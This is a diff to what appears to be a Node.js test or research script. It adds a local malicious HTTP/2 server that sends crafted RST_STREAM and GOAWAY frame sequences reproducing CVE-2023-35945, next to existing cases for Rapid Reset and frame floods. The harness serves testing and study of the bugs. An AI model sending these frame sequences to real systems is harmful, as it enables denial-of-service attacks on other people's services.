@@ -112,6 +112,33 @@ async function origins() {
   await once(server, 'close');
 }
 
+// CVE-2023-35945: a server resets a stream and says goodbye at once, with more requests under way.
+async function resetAndGoodbye(name, frames) {
+  const server = net.createServer((socket) => {
+    let bytes = 0;
+    socket.on('error', () => {});
+    socket.on('data', (data) => {
+      bytes += data.length;
+      if (data.length > 0 && bytes > PREFACE.length + 60) socket.end(Buffer.concat([SETTINGS, ...frames]));
+    });
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const client = http2.connect(`http://127.0.0.1:${server.address().port}`);
+  const closed = new Promise((resolve) => { client.on('close', resolve); });
+  client.on('error', () => {});
+  const ends = await Promise.all(Array.from({ length: 3 }, (_, i) => new Promise((resolve) => {
+    const request = client.request({ ':path': `/${i}` });
+    request.on('error', () => {});
+    request.on('close', () => resolve(request.destroyed));
+    request.resume();
+  })));
+  await closed;
+  console.log(`${name}: ends ${ends}, session destroyed ${client.destroyed}`);
+  server.close();
+  await once(server, 'close');
+}
+
 (async () => {
   const show = ['streams', 'error', 'goaway'];
   // CVE-2023-44487, Rapid Reset. How many streams JavaScript sees depends on chunks.
@@ -166,4 +193,8 @@ async function origins() {
   await attack('2,000 WINDOW_UPDATE frames', Buffer.concat([START, frame(1, 4, 1, GET), many(2000, () => frame(8, 0, 1, hex('00000001')))]), { onStream: () => {}, ends: true, show: ['streams'] });
   await attack('a GOAWAY, then streams', Buffer.concat([START, frame(7, 0, 0, Buffer.alloc(8)), many(20, (id) => frame(1, 5, id, GET))]), { ends: true });
   await origins();
+  const goodbye = (last, code) => frame(7, 0, 0, Buffer.concat([hex(last), hex(code)]));
+  await resetAndGoodbye('a reset, then GOAWAY', [frame(3, 0, 1, hex('00000007')), goodbye('00000000', '00000000')]);
+  await resetAndGoodbye('resets between two GOAWAY', [goodbye('00000005', '00000000'), frame(3, 0, 1, hex('00000007')), frame(3, 0, 3, hex('00000007')), goodbye('00000001', '00000000')]);
+  await resetAndGoodbye('GOAWAY with an error, then a reset', [goodbye('00000005', '0000000b'), frame(3, 0, 5, hex('00000008'))]);
 })();
